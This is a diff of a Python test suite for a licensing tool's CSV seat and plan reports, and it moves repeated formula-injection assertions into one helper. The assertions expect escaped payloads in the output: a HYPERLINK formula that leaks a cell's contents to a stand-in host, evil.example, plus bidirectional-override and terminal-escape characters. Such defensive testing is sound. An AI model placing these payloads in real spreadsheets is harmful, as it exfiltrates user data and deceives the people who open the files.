@@ -214,6 +214,21 @@ def csv_cells(text: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text, newline="")))
 
 
+def inert_license_rows(out: str) -> tuple[list[str], list[list[str]]]:
+    """The header and rows of a per-license CSV report of FORMULAS keys: every cell inert, keys escaped."""
+    header, *rows = csv_cells(out)
+    assert len(rows) == len(FORMULAS) + 1
+    for row in rows:
+        for cell in row:
+            assert_inert(cell)
+    keys = {row[header.index("key")] for row in rows}
+    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in keys
+    assert "'\\t=1+1" in keys
+    assert "RTL\\u202eKEY\\x1b[2J" in keys
+    assert {row[header.index("product_id")] for row in rows} == {"'+1"}
+    return header, rows
+
+
 class TestCsv:
     """No CSV cell starts a formula in a spreadsheet, and none carries control or bidirectional characters."""
 
@@ -245,16 +260,7 @@ class TestCsv:
             ledger.lease("a", at(3, 8), at(3, 9), key=formula, product="+1")
         argv = ["report", "seats", "--set", f"state_dir={tmp_path}", "--format", "csv"]
         assert main([*argv, "--since", "2026-11-03", "--until", "2026-11-04"]) == 0
-        header, *rows = csv_cells(capsys.readouterr().out)
-        assert len(rows) == len(FORMULAS) + 1
-        for row in rows:
-            for cell in row:
-                assert_inert(cell)
-        keys = {row[header.index("key")] for row in rows}
-        assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in keys
-        assert "'\\t=1+1" in keys
-        assert "RTL\\u202eKEY\\x1b[2J" in keys
-        assert {row[header.index("product_id")] for row in rows} == {"'+1"}
+        header, rows = inert_license_rows(capsys.readouterr().out)
         assert {row[header.index("peak_seats")] for row in rows} == {"1"}
 
     def test_report_plan(self, ledger: Ledger, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -264,16 +270,7 @@ class TestCsv:
             ledger.denial("b", at(3, 8), key=formula, product="+1", interval=1800)
         argv = ["report", "plan", "--set", f"state_dir={tmp_path}", "--format", "csv"]
         assert main([*argv, "--since", "2026-11-03", "--until", "2026-11-04"]) == 0
-        header, *rows = csv_cells(capsys.readouterr().out)
-        assert len(rows) == len(FORMULAS) + 1
-        for row in rows:
-            for cell in row:
-                assert_inert(cell)
-        keys = {row[header.index("key")] for row in rows}
-        assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in keys
-        assert "'\\t=1+1" in keys
-        assert "RTL\\u202eKEY\\x1b[2J" in keys
-        assert {row[header.index("product_id")] for row in rows} == {"'+1"}
+        header, rows = inert_license_rows(capsys.readouterr().out)
         assert {row[header.index("peak_demand")] for row in rows} == {"2"}
         assert {row[header.index("unmet_seat_hours")] for row in rows} == {"0.5"}
 
